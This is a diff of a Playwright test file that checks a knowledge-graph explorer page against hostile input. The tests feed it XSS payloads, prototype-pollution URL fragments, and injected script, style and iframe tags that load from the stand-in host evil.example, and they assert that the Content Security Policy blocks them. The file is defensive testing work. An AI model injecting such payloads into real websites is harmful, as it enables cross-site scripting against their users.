@@ -7,7 +7,10 @@ from small import Small
 from kg.rdf.terms import literal
 from kg.view.explorer.explore import explorer_page
 
-ELSEWHERE = "script:not([type]), iframe, object, embed, link[href^=http], img, base, form, style:not(head style), [onload], [onerror]"
+ELSEWHERE = (
+    "script:not([type]), iframe, object, embed, link[href^=http], img, base, form, style:not(head style), [onload], "
+    "[onerror]"
+)
 QUERY = "SELECT * { ?entity <http://www.w3.org/2000/01/rdf-schema#label> ?label }"
 
 
@@ -70,49 +73,48 @@ def test_nothing_runs_and_nothing_is_fetched_wherever_a_reader_goes(explored, ht
     assert page.evaluate("window.hacked") is None
 
 
-@pytest.mark.parametrize("name", ["script", "image", "long", "bidi", "wide", "words"])
-def test_the_search_shows_a_hostile_name_as_text(explored, html, name):
+def test_the_search_shows_a_hostile_name_as_text(explored, html):
     found = explored(html, viewport={"width": 360, "height": 740})
-    found.page.keyboard.press("/")
-    found.page.keyboard.insert_text(HOSTILE[name][:40])
-    found.page.wait_for_selector("[role=option]")
-    harmless(found)
-    found.page.keyboard.press("Enter")
-    found.page.wait_for_url("**focus=**")
-    harmless(found)
+    for name in ("script", "image", "long", "bidi", "wide", "words"):
+        found.page.keyboard.press("/")
+        found.page.keyboard.insert_text(HOSTILE[name][:40])
+        found.page.wait_for_selector("[role=option]")
+        harmless(found)
+        found.page.keyboard.press("Enter")
+        found.page.wait_for_selector("[role=option]", state="hidden")
+        harmless(found)
 
 
-@pytest.mark.parametrize(
-    "hash_",
-    [
-        "focus=<img src=x onerror=window.hacked=1>",
-        "focus=__proto__&about=entity constructor",
-        "about=document javascript:window.hacked=1",
-        "query=%00%3C/script%3E&sparql=open&draw=result",
-        "type=__proto__&sure=1e999&from=9999999&to=-1&lang=xx&view=<b>",
-        "trail=" + "a " * 5000,
-        "%",
-    ],
-)
-def test_no_address_does_harm(explored, html, hash_):
+ADDRESSES = [
+    "focus=<img src=x onerror=window.hacked=1>",
+    "focus=__proto__&about=entity constructor",
+    "about=document javascript:window.hacked=1",
+    "query=%00%3C/script%3E&sparql=open&draw=result",
+    "type=__proto__&sure=1e999&from=9999999&to=-1&lang=xx&view=<b>",
+    "trail=" + "a " * 5000,
+    "%",
+]
+
+
+def test_no_address_does_harm(explored, html):
     found = explored(html)
-    found.page.evaluate("hash => { location.hash = hash }", hash_)
-    found.page.wait_for_timeout(300)
-    harmless(found)
+    for address in ADDRESSES:
+        found.page.evaluate("hash => { location.hash = hash }", address)
+        found.page.wait_for_timeout(200)
+        harmless(found)
 
 
-@pytest.mark.parametrize(
-    "attack",
-    [
-        "<script>window.hacked = 1</script>",
-        "<img src=x onerror='window.hacked = 1'>",
-        "<script src='https://evil.example/x.js'></script>",
-        "<style>@import url(https://evil.example/x.css);</style>",
-        "<iframe src='https://evil.example/'></iframe>",
-    ],
-)
-def test_the_policy_stops_what_escaping_would_let_through(explored, html, attack):
-    found = explored(html.replace("</body>", f"{attack}</body>"))
+ATTACKS = [
+    "<script>window.hacked = 1</script>",
+    "<img src=x onerror='window.hacked = 1'>",
+    "<script src='https://evil.example/x.js'></script>",
+    "<style>@import url(https://evil.example/x.css);</style>",
+    "<iframe src='https://evil.example/'></iframe>",
+]
+
+
+def test_the_policy_stops_what_escaping_would_let_through(explored, html):
+    found = explored(html.replace("</body>", f"{''.join(ATTACKS)}</body>"))
     assert found.page.evaluate("window.hacked") is None
-    assert any("Content Security Policy" in error for error in found.errors)
+    assert sum("Content Security Policy" in error for error in found.errors) >= len(ATTACKS)
     assert found.failures == ["csp"] * (len(found.requests) - 1)
